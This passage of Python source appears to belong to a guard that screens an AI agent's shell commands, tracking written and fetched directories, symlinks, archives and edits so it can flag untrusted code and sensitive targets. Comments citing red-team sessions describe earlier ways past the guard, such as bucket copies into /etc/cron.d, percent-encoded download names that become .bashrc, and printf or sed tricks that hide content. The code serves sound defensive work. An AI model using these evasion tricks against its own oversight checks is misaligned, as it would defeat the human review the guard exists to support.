    ``..`` is kept: across a symlink it is not where the text says, and a path with ``..``
    never satisfies a path-scoped override (the rules normalise it for themselves)."""
    if not path or path.startswith(("/", "~", "$")) or base == START:
        return path
    if base == UNKNOWN:
        return UNKNOWN
    parts = [p for p in (base.rstrip("/") + "/" + path).split("/") if p not in ("", ".")]
    joined = ("/" if base.startswith("/") else "") + "/".join(parts)
    if joined and path.rstrip("/").rsplit("/", 1)[-1] == ".":
        # `cp -r . DEST` or `./` after a cd copies the directory's contents, as D/. does
        joined += "/."
    elif path.endswith("/") and not joined.endswith("/"):
        joined += "/"
    return joined or "."


def _follow(p: str, links: dict[str, str]) -> str:
    """``p`` with the line's symlinks replaced by their targets (a few hops)."""
    if not links:
        return p
    for _ in range(4):
        q = p.rstrip("/") or p
        hit = next((name for name in links if q == name or q.startswith(name + "/")), None)
        if hit is None:
            return p
        p = _SLASHES.sub("/", links[hit] + "/" + p[len(hit):]) if p[len(hit):] else links[hit]
    return p


_SLASHES = re.compile(r"//++")
#: a cluster of tar letters (``-xzf``, old style ``xzf``)
_OLD_STYLE = re.compile(r"-?+[A-Za-z]++")


def _is_relative(word: str) -> bool:
    return bool(word) and not word.startswith(("/", "~", "$", "-")) and not _URLISH.match(word)


def _resolve(word: str, base: str, links: dict[str, str]) -> str:
    return _follow(join(base, word), links) if word else word


def _dir_of(p: str) -> str:
    return p if p.endswith("/") else posixpath.dirname(p) or START


def _trees_under(p: str, roots: list[str]) -> bool:
    return _root_of(p, roots) is not None


def _root_of(p: str, roots: list[str], earlier: dict[str, str] | None = None) -> str | None:
    """The first of ``roots`` (or of ``earlier``'s keys) that ``p`` is or is under (``""``:
    every relative path)."""
    q = p.rstrip("/") or p
    if q.startswith(".") or "/." in q:
        # ``./sub``, ``sub/./x``: the same place as ``sub`` (``..`` stays: see join)
        q = "/".join(s for s in q.split("/") if s != ".") if q != "." else ""
    for r in roots:
        if r == ANYWHERE or q == r or (q.startswith(r.rstrip("/") + "/") if r else
                                       not q.startswith(("/", "~"))):
            return r
    if earlier:
        if ANYWHERE in earlier:
            return ANYWHERE
        for a in _ancestors(q):
            if a in earlier:
                return a
    return None


def _ancestors(q: str) -> list[str]:
    """``q`` and the directories above it: ``a/b`` -> ``a/b``, ``a``, ``""``; ``/s/a`` ->
    ``/s/a``, ``/s``, ``/``; ``~/a`` -> ``~/a``, ``~``."""
    out = [q]
    i = len(q)
    while (i := q.rfind("/", 0, i)) > 0:
        out.append(q[:i])
    if q.startswith("/") and q != "/":
        out.append("/")
    elif not q.startswith("~"):
        out.append(START)
    return out


def _by_whom(root: str | None, earlier: dict[str, str] | None) -> str:
    """How a finding names who wrote ``root``: this line, or the earlier line that did."""
    if root is None or not earlier or root not in earlier:
        return "this line"
    return f"an earlier line ({earlier[root]!r})"


def untrusted_dir(d: str, fetched: list[str], earlier: dict[str, str] | None = None) -> str:
    """Why code found in directory ``d`` is not the agent's own, or ""."""
    if d == UNKNOWN:
        return "a directory the guard cannot compute"
    q = norm(d).rstrip("/") if d.startswith("/") else d.rstrip("/")
    root = _root_of(q, fetched, earlier)
    if root is not None:
        return f"{d!r}, which {_by_whom(root, earlier)} wrote or fetched into"
    if d.startswith("/") and (_trees_under(q, list(SCRATCH)) or is_system_path(q)):
        return f"{d!r}, a scratch or system directory anyone may have written"
    return ""


def sensitive_target(t: str) -> str:
    """Why a link to ``t`` is not ordinary (writes or reads through it land there), or ""."""
    q = norm(t).replace("~/", "/~/") if t.startswith("~/") else norm(t)
    if not t.startswith(("/", "~", "$")) and set(posixpath.normpath(t).split("/")) == {".."}:
        return "a directory the working directory is in (other users' homes, the system)"
    if t in ("/", "~", "~/", "$HOME", "${HOME}") or q.rstrip("/") in ("", "/~", "/root",
                                                                      "/home", "/etc"):
        return "the root, a home or /etc"
    if is_system_path(t):
        return "a system path"
    if maybe_secret_path(t):
        return "a secret"
    if AUTH_FILES.search(q) or STARTUP_FILES.search(q) or HISTORY_FILES.search(q):
        return "an authentication, startup or history file"
    if t.startswith("~/.") or "/." in t.rstrip("/"):
        return "a dot-file"
    return ""


# --- what a command does to the state ------------------------------------------------------
def _cd_target(c: SimpleCommand) -> str | None:
    """The directory ``cd``/``pushd`` goes to, UNKNOWN, or None (not a directory change)."""
    if c.name not in ("cd", "pushd", "popd", "chdir"):
        return None
    if c.name == "popd":
        return None  # back to one already in the set
    args = [a for a in c.args if a not in ("-P", "-L", "-e", "-@", "--", "-n")]
    dyn = c.dynamic[1:] if c.dynamic else ()
    if not args:
        return "~" if c.name != "pushd" else UNKNOWN
    a = args[0]
    if a == "-" or a.startswith(("+", "-")) or any(dyn) or any(ch in a for ch in "*?[{$`"):
        return UNKNOWN
    if a in ("$HOME", "${HOME}"):
        return "~"
    return a


def _option_value(args: tuple[str, ...], *names: str) -> list[str]:
    out = []
    for i, a in enumerate(args):
        for n in names:
            if (a == n or (len(n) == 2 and a[:1] == "-" and a[1:2] != "-" and a.endswith(n[1])
                           and a[1:-1].isalnum())) and i + 1 < len(args):
                out.append(args[i + 1])  # -o V, and a short cluster ending in it: -sSLo V
            elif a.startswith(n + "="):
                out.append(a[len(n) + 1:])
            elif len(n) == 2 and a.startswith(n) and len(a) > 2 and not a.startswith("--"):
                out.append(a[2:])
    return out


#: a word bash expands: the directory it names is known only at run time
_COMPUTED_DIR = re.compile(r"[$`*?\[{]")


def _may_be_written(t: str, state: _State) -> bool:
    """May the computed directory ``t`` be in (or hold) a tree the session wrote? A glob
    from ``/`` or ``~`` (``~/src/*/``, a loop's) is matched component by component against
    what was written; any other computed word may be anything."""
    names = [a or b for a, b in _VARIABLE.findall(t)]
    if len(set(names)) == 1 and names[0] in state.vars:
        # one variable the line set (``for d in ~/src/*/``): each of its values
        return any(_may_be_written(_VARIABLE.sub(lambda _, v=v: v, t), state)
                   for v in state.vars[names[0]][:MAX_VALUES])
    if "$" in t or "`" in t or not t.startswith(("/", "~/")):
        return True
    want = [x for x in t.split("/") if x]
    for root in [*state.fetched, *state.earlier]:
        have = [x for x in root.split("/") if x]
        if all(fnmatch.fnmatchcase(h, w) for h, w in zip(have, want, strict=False)):
            return True
    return False


_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*+)\}|([A-Za-z_][A-Za-z0-9_]*+))")


def _chdir_of(c: SimpleCommand) -> list[str]:
    """Directories a wrapper or tool runs in: ``env -C``, ``sudo -D``, ``make -C``,
    ``git -C``/``--work-tree``, ``terraform -chdir``, ``npm --prefix``..."""
    n = c.name
    if not any(a[:1] == "-" for a in c.args):
        return []
    if n == "env":
        return _option_value(c.args, "-C", "--chdir")
    if n == "sudo":
        return _option_value(c.args, "-D", "--chdir")
    if n == "systemd-run":
        return _option_value(c.args, "--working-directory")
    if n in ("make", "gmake", "tar", "bsdtar"):
        return _option_value(c.args, "-C", "--directory")
    if n == "git":
        pre = _git_globals(c)
        return _option_value(pre, "-C", "--work-tree")
    if n in ("terraform", "tofu"):
        return _option_value(c.args, "-chdir")
    if n in ("npm", "pnpm"):
        return _option_value(c.args, "--prefix", "-C")
    if n == "yarn":
        return _option_value(c.args, "--cwd")
    if n == "go":
        return _option_value(c.args, "-C")
    if n in ("gradle", "gradlew", "./gradlew"):
        return _option_value(c.args, "-p", "--project-dir")
    if n in LAUNCHERS:
        # the command a launcher runs in a container starts in its -w/--workdir there
        got = launch(n, c.args)
        work = got.values("-w") if got else []
        if n in ("kubectl", "oc"):
            return work
        return _option_value(c.args, "--project-directory") + work
    if n == "ctest":
        return _option_value(c.args, "--test-dir")
    if n in ("ninja", "meson"):
        return _option_value(c.args, "-C")
    if n in ("just", "task", "go-task"):
        return _option_value(c.args, "-d", "--working-directory", "--dir")
    return []


def _git_globals(c: SimpleCommand) -> tuple[str, ...]:
    args, i = c.args, 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in _GIT_VALUES else 1
    return args[:i]


def _git_sub(c: SimpleCommand) -> tuple[str, tuple[str, ...]]:
    pre = _git_globals(c)
    rest = c.args[len(pre):]
    return (rest[0], rest[1:]) if rest else ("", ())


def _subcommand(c: SimpleCommand) -> str:
    if c.name == "git":
        return _git_sub(c)[0]
    if c.name in LAUNCHERS:
        # past the tool's global options and their values (``docker-compose -p app run``);
        # one it does not have: any subcommand (the runner runs)
        sub = subcommand(c.name, c.args)
        return sub if sub is not None else next(iter(CODE_RUNNERS.get(c.name, ())), "")
    if c.name == "aws":  # "service operation", past the CLI's own options and their values
        call = cloud.parse_call("aws", c.args, strict=False)
        return "" if isinstance(call, str) else " ".join(call.path[:2])
    short = PATH_SHORT.get(c.name, frozenset())
    skip = False
    for a in c.args:
        if skip:
            skip = False
            continue
        if not a.startswith("-"):
            return a
        if c.name.startswith("python") and a in ("-m", "-c"):
            return a  # -c imports from the working directory first
        skip = a in short or (a in PATH_LONG and "=" not in a)
    return ""


#: compose verbs that look at a project's containers and run nothing of the tree
_COMPOSE_LOOKS = frozenset({"ps", "logs", "images", "top", "ls", "port", "events", "version"})
#: compose's global options that take a value
_COMPOSE_VALUES = frozenset({"-f", "--file", "-p", "--project-name", "--env-file", "--profile",
                             "--project-directory", "--ansi", "--progress", "--parallel"})


def _compose_looks(c: SimpleCommand) -> bool:
    """``docker compose ps|logs|...``: the project's containers looked at, nothing run (a
    session that edited .env or the compose file is not held for a ``ps``)."""
    if c.name not in ("docker", "podman", "docker-compose") or (
            c.name != "docker-compose" and c.args[:1] != ("compose",)):
        return False
    args = c.args[1:] if c.name != "docker-compose" else c.args
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 1 if "=" in args[i] or args[i] not in _COMPOSE_VALUES else 2
    return i < len(args) and args[i] in _COMPOSE_LOOKS


def _worktree_add(c: SimpleCommand) -> str | None:
    """The directory ``git worktree add [-b NAME] PATH`` checks a commit out into."""
    sub, rest = _git_sub(c)
    if c.name != "git" or sub != "worktree" or rest[:1] != ("add",):
        return None
    words = list(rest[1:])
    while words and words[0].startswith("-"):
        words = words[2:] if words[0] in ("-b", "-B") else words[1:]
    return words[0] if words else None


#: CLIs that copy out of a bucket: the words before the copy verb (global options, the
#: ``s3``/``storage`` group) and the verbs
_BUCKET_DOWNLOAD = {"aws": frozenset({"cp", "mv", "sync"}),
                    "gsutil": frozenset({"cp", "mv", "rsync"}),
                    "gcloud": frozenset({"cp", "mv", "rsync"}),
                    "s5cmd": frozenset({"cp", "mv", "sync"})}
_BUCKET_URL = re.compile(r"\A(?:s3|gs|az|r2)://", re.I)


def _bucket_destinations(c: SimpleCommand) -> list[str]:
    """Where ``aws s3 cp s3://b/k DEST`` (gsutil, gcloud storage, s5cmd alike) puts what it
    copies out of a bucket: every plain word after the bucket source, as the file and as a
    directory holding the key's name (red team s14: a copy into /etc/cron.d was no write).
    Over-counting only holds more: an option's value taken for a destination is harmless."""
    args = c.args
    verb = next((i for i, a in enumerate(args) if a in _BUCKET_DOWNLOAD[c.name]), None)
    if verb is None:
        return []
    src = next((i for i in range(verb + 1, len(args)) if _BUCKET_URL.match(args[i])), None)
    if src is None:
        return []
    key = args[src].rstrip("/").rsplit("/", 1)[-1]
    out: list[str] = []
    for a in args[src + 1:]:
        if a.startswith("-") or _BUCKET_URL.match(a) or "://" in a:
            continue
        into = a.endswith("/") or a in (".", "./", "..")
        # a name with a dot is the file; ``dir/`` or ``.`` the directory; else either
        if not into:
            out.append(a)
        if key and key not in (".", "..") and (into or "." not in posixpath.basename(a)):
            out.append(posixpath.join(a, key))
    return out


def _fetch_targets(c: SimpleCommand, base: str, state: _State) -> list[str]:
    """Paths ``c`` fills with content from elsewhere (resolved against ``base``)."""
    n, args = c.name, c.args
    out: list[str] = []
    tree = _worktree_add(c) if n == "git" else None
    if tree is not None:
        # a commit checked out (one the session may have made): what a clone is, in place
        out.append(tree)
    elif n == "git" and _git_sub(c)[0] == "clone":
        ops = [a for a in _git_sub(c)[1] if not a.startswith("-")]
        if len(ops) >= 2:
            out.append(ops[1])
        elif ops:
            out.append(ops[0].rstrip("/").rsplit("/", 1)[-1].rsplit(":", 1)[-1]
                       .removesuffix(".git"))
    elif n == "curl":
        out += _option_value(args, "-o", "--output")
        if any(a in ("-O", "--remote-name", "--remote-name-all") or (
                a.startswith("-") and not a.startswith("--") and "O" in a[1:]) for a in args):
            out += [s for a in args if _URLISH.match(a) for s in saved_names(a)]
    elif n in ("wget", "aria2c", "fetch", "lwp-download"):
        named = _option_value(args, "-O", "--output-document", "-o", "--out")
        prefix = _option_value(args, "-P", "--directory-prefix", "-d", "--dir")
        out += named + prefix
        if not named and not prefix:
            out += [s for a in args if _URLISH.match(a) or "." in a.split("/", 1)[0] and
                    "/" in a for s in saved_names(a)]
    elif n == "kaggle" and "download" in args[:2]:
        # a dataset's files (any names, code too) into -p, else the working directory
        out += _option_value(args, "-p", "--path") or [START]
    elif n in ("huggingface-cli", "hf") and args[:1] == ("download",):
        # a hub repository's files (any names, code too) into --local-dir, else the cache
        out += _option_value(args, "--local-dir")
    elif n in ("docker", "podman") and args[:1] == ("cp",):
        # a file out of a container (container:path) is content from elsewhere
        ops = [a for a in args[1:] if not a.startswith("-")]
        if len(ops) == 2 and ":" in ops[0] and ":" not in ops[1]:
            out.append(ops[1] if ops[1] not in (".", "./") and not ops[1].endswith("/")
                       else posixpath.join(ops[1], ops[0].rsplit("/", 1)[-1]))
    elif n in ("pip", "pip3") and "download" in args:
        out += _option_value(args, "-d", "--dest") or [START]
    elif _BUCKET_DOWNLOAD.get(n) is not None:
        out += _bucket_destinations(c)
    elif n in ("scp", "rsync"):
        ops = [a for a in args if not a.startswith("-")]
        if len(ops) >= 2 and any(":" in o and not o.startswith("/") for o in ops[:-1]):
            out.append(ops[-1])
    elif n in ("tar", "bsdtar", "unzip", "7z", "cpio") and _extracts(c):
        archive = _archive(c)
        src = _resolve(archive, base, state.links) if archive else ""
        if src and (state.root_of(src) is not None or (
                src.startswith("/") and _trees_under(norm(src), list(SCRATCH)))):
            dest = _option_value(args, "-C", "--directory", "-d") or [START]
            out += dest
    elif n in ("cp", "mv", "rsync", "install"):
        ops = [a for a in args if not a.startswith("-")]
        if len(ops) >= 2 and any(state.root_of(_resolve(o, base, state.links)) is not None
                                 for o in ops[:-1]):
            out.append(ops[-1])
    # a directory named with a trailing slash (``-p data/``) is the directory ``cd data`` enters
    return [_resolve(t.rstrip("/") or t, base, state.links) if t != START else base
            for t in out]


#: database dump tools -> the options that name what they write
_DUMP_OUTPUT = {"pg_dump": ("-f", "--file"), "mysqldump": ("-r", "--result-file"),
                "mariadb-dump": ("-r", "--result-file"), "mongodump": ("-o", "--out",
                                                                       "--archive")}


def _written(c: SimpleCommand, base: str, state: _State) -> list[str]:
    """Paths ``c`` writes with content the agent chose (redirections, tee, copies, sort -o,
    dd of=) and directories it unpacks an archive into."""
    out = [r.target for r in c.redirects if r.op in _WRITE_OPS and not r.target.isdigit()
           and not r.target.startswith("/dev/")]
    ops = [a for a in c.args if not a.startswith("-")]
    if c.name == "tee":
        out += ops
    elif c.name in ("cp", "mv", "install", "rsync") and len(ops) >= 2:
        out.append(ops[-1])
        # into a directory the copy lands under the source's own name (the guard cannot
        # know which): ``cp /tmp/test_a.txt tests/`` writes tests/test_a.txt
        out += [posixpath.join(ops[-1], o.rstrip("/").rsplit("/", 1)[-1]) for o in ops[:-1]
                if o.rstrip("/").rsplit("/", 1)[-1] not in ("", ".", "..")]
    elif c.name == "sort":
        out += _option_value(c.args, "-o", "--output")
    elif c.name == "dd":
        out += [a[3:] for a in c.args if a.startswith("of=")]
    elif c.name in _DUMP_OUTPUT:
        # a database's content: rows anyone who writes to the database chose
        out += _option_value(c.args, *_DUMP_OUTPUT[c.name])
    elif c.name == "yq" and any(a in ("-i", "--inplace") for a in c.args):
        out += [o for o in ops if o not in ("e", "eval", "ea", "eval-all")][1:]
    elif c.name in ("terraform", "tofu", "terragrunt"):
        # a saved plan (plan -out): what a later git add must not stage
        out += [a[5:] for a in c.args if a.startswith("-out=")]
        out += [c.args[i + 1] for i, a in enumerate(c.args[:-1]) if a == "-out"]
    elif c.name == "jupyter" and c.args[:1] == ("nbconvert",):
        out += nbconvert_outputs(c.args[1:])
    # the data tools' own outputs (session 11): a tool's -o (not papermill's executed copy:
    # the tree notebook's own output)
    elif c.name in ("xsv", "qsv") or (c.name == "dbt" and "freshness" in c.args):
        out += _option_value(c.args, "-o", "--output")
    elif c.name in ("sed", "gsed") and any(a.startswith(("-i", "--in-place")) or (
            a.startswith("-") and not a.startswith("--") and "i" in a[1:]) for a in c.args):
        # in place: every operand but the script (unless -e/-f gave it)
        given = any(a in ("-e", "-f", "--expression", "--file") or a.startswith(
            ("--expression=", "--file=")) for a in c.args)
        out += ops if given else ops[1:]
    elif c.name == "ln" and len(ops) >= 2 and not any(
            a in ("-s", "--symbolic") or (a.startswith("-") and not a.startswith("--") and
                                          "s" in a[1:]) for a in c.args):
        # a hard link is a new name for the content: a copy, as cp is (a site script under
        # a name no allow: entry narrows) (red team s11)
        out.append(ops[-1])
    elif c.name == "zip" and ops:
        out.append(ops[0])  # the archive: python runs a zip's __main__.py by any name
    elif c.name in ("tar", "bsdtar") and _creates(c):
        out.append(_archive(c) if _archive(c) != "-" else "")
    elif c.name in ("gzip", "gunzip") and (c.name == "gunzip" or _gz_unpacks(c.args)) and \
            not _gz_to_stdout(c.args):
        suffix = (_option_value(c.args, "-S", "--suffix") or [""])[0]
        out += [o[:-len(suffix)] if suffix and o.endswith(suffix) else
                _GZ_SUFFIX.sub(lambda m: ".tar" if m.group(1).lower() in ("tgz", "taz") else "", o)
                for o in ops if o not in (suffix,)]
    elif c.name == "split":
        # PREFIXaa, PREFIXab...: the first stands for all (what lies beside a script is judged
        # by directory and kind, not by name)
        sops = [a for a in _operands(c.args, _SPLIT_VALUES) if a != "-"]
        extra = (_option_value(c.args, "--additional-suffix") or [""])[0]
        out.append((sops[1] if len(sops) > 1 else "x") + "aa" + extra)
    script = script_of(c.argv)
    if script is not None:
        # a site program given a code file's name may write it (``python gen.py --out
        # tools/x.py``): remembered, so that what runs it later is held (red team s11 W12)
        for a in c.argv[script[0] + 1:]:
            v = a.split("=", 1)[1] if a.startswith("-") and "=" in a else a
            if CODE_FILE.search(v) and not v.startswith(("-", "/", "~")) and ".." not in v:
                out.append(v)
    out = [t for t in out if t]
    if c.name in ("tar", "bsdtar", "unzip", "7z", "cpio") and _extracts(c):
        # no -C: the working directory, as a tree (START; its name is the base)
        out += _option_value(c.args, "-C", "--directory", "-d") or [START]
    return [_resolve(t, base, state.links) if t != START else base for t in out]


def saved_names(url: str) -> list[str]:
    """The names a downloader may save ``url`` under when not told one: its last path
    segment as written and percent-decoded (wget saves ``%2ebashrc`` as ``.bashrc``: red
    team s14), without and with the query (wget keeps ``?q`` in the name)."""
    url = url.split("#", 1)[0]
    path, _, query = url.partition("?")
    base = path.rstrip("/").rsplit("/", 1)[-1]
    names = [base, urllib.parse.unquote(base)]
    if query:
        names += [f"{n}?{query}" for n in names] + [urllib.parse.unquote(f"{base}?{query}")]
    return list(dict.fromkeys(n for n in names if n))


def _edited(c: SimpleCommand, base: str, state: _State, fed: bool = False) -> list[str]:
    """Of what ``c`` writes (:func:`_written`), the files it edits with content the line
    shows: echo, printf or a here-document into a redirection or tee, a literal sed or yq
    expression in place. Never a copy, a download, a dump, an archive or any other program's
    output: their content is not on the line. ``fed``: ``c`` reads a pipe from an echo or
    printf that shows all it prints (:func:`fed_shown`)."""
    out: list[str] = []
    if _content_shown(c) or fed and c.name == "tee":
        out = [r.target for r in c.redirects if r.op in _WRITE_OPS and not r.target.isdigit()
               and not r.target.startswith("/dev/")]
        if c.name == "tee":
            out += [a for a in c.args if not a.startswith("-")]
    elif not any(c.dynamic[1:]) and (
            c.name in ("sed", "gsed") and shown_edit(c.args) or c.name == "yq" and not any(
                a.startswith(("-f", "--file", "--from-file")) for a in c.args)):
        # (red team s15 A5) a sed ``r FILE`` or a bundled ``-Ef FILE`` brings in text the
        # line does not show
        return _written(replace(c, redirects=()), base, state)
    return [_resolve(t, base, state.links) for t in out if t]


def fed_shown(line: str, commands: Sequence[SimpleCommand], index: int) -> bool:
    """Does ``commands[index]`` (a tee) read only a pipe from the top-level echo or printf
    right before it, which prints nothing but what the line shows (``printf '[Service]\\n'
    | sudo tee F``)? Never a group or a second writer feeding the pipe."""
    c = commands[index]
    if c.name != "tee" or len(c.pipe_from) != 1 or not line:
        return False
    feeder = next((p for p in reversed(commands[:index])
                   if p.via == () and p.span[1] <= c.span[0]), None)
    return feeder is not None and feeder.name in ("echo", "printf") and \
        c.pipe_from == (feeder.name,) and not feeder.redirects and \
        line[feeder.span[1]:c.span[0]].strip() == "|" and _content_shown(feeder)


#: the escapes that print what they say (a newline, a tab, a backslash): any other
#: backslash left in an echo or printf word may decode into text the line does not show
_SHOWN_ESCAPE = re.compile(r"\\[nt\\]")
#: a here-document or here-string body that the shell expands
_EXPANDS = re.compile(r"[$`]")


def _content_shown(c: SimpleCommand) -> bool:
    """Does all ``c`` prints come from the line: literal echo/printf words, or (cat, tee) a
    here-document or here-string that expands nothing?"""
    if c.name in ("echo", "printf"):
        # what printf, echo -e (or sh's echo) decode is not the text a reviewer reads:
        # only a newline or a tab escape, and never printf's %b (red team s13)
        # printf's conversions other than a plain %s rebuild text (%c takes a word's first
        # character, %.1s cuts one, %x prints a number: red team s14 G6)
        return not any(c.dynamic[1:]) and not any(
            "\\" in _SHOWN_ESCAPE.sub("", a) for a in c.args) and not (
            c.name == "printf" and any("%" in a.replace("%%", "").replace("%s", "")
                                       for a in c.args[:1]))
    if c.name not in ("cat", "tee") or (c.name == "cat" and any(
            a != "-" for a in c.args if not a.startswith("-"))) or c.pipe_from:
        return False
    if c.heredoc is not None:
        return not (c.heredoc_expands and _EXPANDS.search(c.heredoc))
    strings = [r for r in c.redirects if r.op == "<<<"]
    return bool(strings) and not any(r.dynamic or _EXPANDS.search(r.target) for r in strings)


#: nbconvert's exporters and the extension of what each writes (``--to script``: the kernel's
#: language; a Python notebook's is .py, the one a later code runner could load)
NBCONVERT_EXT = {"html": ".html", "markdown": ".md", "rst": ".rst", "asciidoc": ".asciidoc",
                 "script": ".py", "python": ".py", "notebook": ".nbconvert.ipynb"}


def nbconvert_outputs(args: tuple[str, ...]) -> list[str]:
    """The files ``jupyter nbconvert ARGS`` writes: each notebook's stem with its exporter's
    extension, next to it or in --output-dir (its --stdout writes none)."""
    if "--stdout" in args:
        return []
    if "--inplace" in args:
        return [a for a in args if a.endswith(".ipynb") and not a.startswith("-")]
    to = (_option_value(args, "--to", "-t") or ["html"])[-1]
    outdir = (_option_value(args, "--output-dir") or [""])[-1].rstrip("/")
    named = (_option_value(args, "--output") or [""])[-1]
    # --output NAME replaces the stem; the exporter's extension is added unless NAME ends
    # with it (a notebook's is .ipynb then: .nbconvert is only the default's infix)
    real = ".ipynb" if to == "notebook" else NBCONVERT_EXT.get(to, "." + to)
    base = named.removesuffix(real)
    out = []
    for a in args:
        if a.endswith(".ipynb") and not a.startswith("-") and a != named:
            d = outdir or posixpath.dirname(a)
            stem = posixpath.basename(a)[:-len(".ipynb")]
            out.append(posixpath.join(d, base + real if named else
                                      stem + NBCONVERT_EXT.get(to, "." + to)))
    return out


def _extracts(c: SimpleCommand) -> bool:
    return c.name in ("unzip", "cpio") or (c.name == "7z" and c.args[:1] in (("x",), ("e",))) \
        or any(a in ("-x", "--extract", "--get") or (a.startswith("-") and not a.startswith(
            "--") and "x" in a) or (i == 0 and _OLD_STYLE.fullmatch(a) is not None and "x" in a)
            for i, a in enumerate(c.args))


def _creates(c: SimpleCommand) -> bool:
    return any(a in ("-c", "--create") or (a.startswith("-") and not a.startswith("--") and
                                           "c" in a) or
               (i == 0 and _OLD_STYLE.fullmatch(a) is not None and "c" in a)
               for i, a in enumerate(c.args))


_GZ_SUFFIX = re.compile(r"\.(gz|z|tgz|taz)$", re.I)


def _gz_unpacks(args: tuple[str, ...]) -> bool:
    return any(a in ("-d", "--decompress", "--uncompress") or (
        a.startswith("-") and not a.startswith("--") and "d" in a) for a in args)


def _gz_to_stdout(args: tuple[str, ...]) -> bool:
    return any(a in ("-c", "--stdout", "--to-stdout", "-l", "--list", "-t", "--test") or (
        a.startswith("-") and not a.startswith("--") and ("c" in a or "t" in a or "l" in a))
        for a in args)


#: split's options that take the next word as their value
_SPLIT_VALUES = frozenset({"-l", "--lines", "-b", "--bytes", "-C", "--line-bytes", "-n",
                           "--number", "-a", "--suffix-length", "--additional-suffix"})


def _operands(args: tuple[str, ...], values: frozenset[str]) -> list[str]:
    out, skip = [], False
    for a in args:
        if skip:
            skip = False
        elif a.startswith("-") and a != "-":
            skip = a in values
        else:
            out.append(a)
    return out


def _archive(c: SimpleCommand) -> str:
    if c.name == "unzip" or c.name == "7z":
        ops = [a for a in c.args if not a.startswith("-")]
        return ops[1] if c.name == "7z" and len(ops) > 1 else (ops[0] if ops else "")
    got = _option_value(c.args, "-f", "--file")
    if got:
        return got[0]
    args = list(c.args)
    for i, a in enumerate(args):
        if _OLD_STYLE.fullmatch(a) and "f" in a and i + 1 < len(args) and \
                not a.startswith("--"):
            return args[i + 1]
    return ""


#: options of a "first" tool whose value is the next word (never its first operand)
_FIRST_VALUES = {"sqlite3": frozenset({"-separator", "-nullvalue", "-newline", "-cmd", "-init",
                                       "--separator", "--nullvalue", "--newline", "--cmd",
                                       "--init"})}
#: tools whose --output is also a format's name (dbt ls --output json|name|path|selector,
#: airflow -o table): a plain word there is no file (dbt source freshness -o x.json is)
_OUTPUT_FORMATS = frozenset({"dbt", "airflow"})
_FORMAT_WORD = re.compile(r"[a-z][a-z0-9_-]{0,15}")


# --- resolution of one command --------------------------------------------------------------
#: a repository's build wrappers, known to the catalogue by these names
REPO_WRAPPERS = frozenset({"./gradlew", "./mvnw"})


def _path_positions(c: SimpleCommand) -> set[int]:
    """Indexes into argv of the words that are paths (operands of file tools, values of
    path options, ``of=``/``if=``, a relative program, git's pathspecs)."""
    mode = FILE_TOOLS.get(c.name)
    out: set[int] = set()
    args = c.argv
    # (a repository's wrapper, ``./gradlew``, keeps its name: the catalogue knows it by that
    # name, and where it runs is judged as the tree's code below)
    if args and "/" in args[0] and _is_relative(args[0]) and args[0] not in REPO_WRAPPERS:
        out.add(0)
    script = script_of(args)
    if script is not None and script[0] > 0 and _is_relative(script[1]):
        # ``cd /data/uploads && python x.py`` runs /data/uploads/x.py: judged by that name
        out.add(script[0])
    short = PATH_SHORT.get(c.name, frozenset())
    skip_first = mode == "after-first" and not any(
        a in ("-e", "-f", "--expression", "--file", "--regexp") or
        a.startswith(("--regexp=", "--expression=", "--file=")) for a in c.args)
    first_seen, in_expr = False, False
    i = 1
    while i < len(args):
        a = args[i]
        if a.startswith("-") and a != "-":
            in_expr = True
            name = a.split("=", 1)[0]
            if name in PATH_LONG and (name.startswith("--") or c.name in ("terraform", "tofu")) \
                    and (c.name, name) not in _NOT_PATH_LONG:
                if name == "--output" and c.name in _OUTPUT_FORMATS and \
                        "freshness" not in c.args and _FORMAT_WORD.fullmatch(
                        a.split("=", 1)[1] if "=" in a else args[i + 1] if i + 1 < len(args)
                        else ""):
                    i += 1 if "=" in a else 2  # dbt ls --output name: a format, not a file
                    continue
                if "=" in a:
                    out.add(i)
                elif i + 1 < len(args):
                    out.add(i + 1)
                    i += 2
                    continue
            elif (a in short or (not a.startswith("--") and len(a) > 2 and a[1:].isalnum()
                                 and "-" + a[-1] in short)) and i + 1 < len(args):
                # -o V, and a short cluster ending in it (curl -sSo V): red team s10
                out.add(i + 1)
                i += 2
                continue
            elif a in VALUE_SHORT.get(c.name, ()) and i + 1 < len(args):
                i += 2  # the option's value: a count or a field, not a file
                continue
            i += 1
            continue
        if a.startswith(("of=", "if=")) and c.name == "dd":
            out.add(i)
        elif mode == "roots":
            if not in_expr:
                out.add(i)
        elif mode == "tar":
            if not (i == 1 and _OLD_STYLE.fullmatch(a)):
                out.add(i)
        elif mode == "first":
            if not first_seen and args[i - 1] not in _FIRST_VALUES.get(c.name, ()):
                first_seen = True
                out.add(i)
        elif mode:
            if skip_first and not first_seen:
                first_seen = True
            else:
                out.add(i)
        i += 1
    if c.name == "git":
        sub, rest = _git_sub(c)
        if sub in _GIT_PATHSPECS:
            start = len(c.argv) - len(rest)
            ops = _git_operands(sub, c.argv, start)
            # clone's first operand is the repository (a URL or scp-like ``host:path``);
            # the directory it makes is the second; worktree's the directory after ``add``
            # (never the verb, a branch name or the commit)
            if sub == "worktree":
                tree = _worktree_add(c)
                at = [j for j in ops if c.argv[j] == tree and c.argv[j - 1] not in ("-b", "-B")]
                out.update(at[:1] if tree is not None else ())
            else:
                out.update(ops[1:] if sub == "clone" else ops)
    return out


#: the option allow-lists of git's pathspec subcommands, so that an option's value (``log -n
#: 15``, ``grep -A 3``) is never taken for a path
_GIT_SUB_OPTS = {"log": gitopts.LOG, "show": gitopts.LOG, "diff": gitopts.DIFF,
                 "blame": gitopts.BLAME, "grep": gitopts.GREP, "add": gitopts.ADD,
                 "checkout": gitopts.CHECKOUT, "restore": gitopts.RESTORE, "mv": gitopts.MV,
                 "clean": gitopts.CLEAN, "apply": gitopts.APPLY, "reset": gitopts.RESET}


def _git_operands(sub: str, argv: tuple[str, ...], start: int) -> list[int]:
    """Indexes of the operands of git ``sub`` whose words start at ``start``: after ``--``
    every word; before it, words that are neither an option nor an option's value."""
    o = _GIT_SUB_OPTS.get(sub)
    out: list[int] = []
    j = start
    while j < len(argv):
        a = argv[j]
        if a == "--":
            out += range(j + 1, len(argv))
            break
        if a.startswith("-"):
            got = option_at(o, argv, j) if o is not None else None
            j += got[1] if isinstance(got, tuple) else 1
            continue
        out.append(j)
        j += 1
    return out


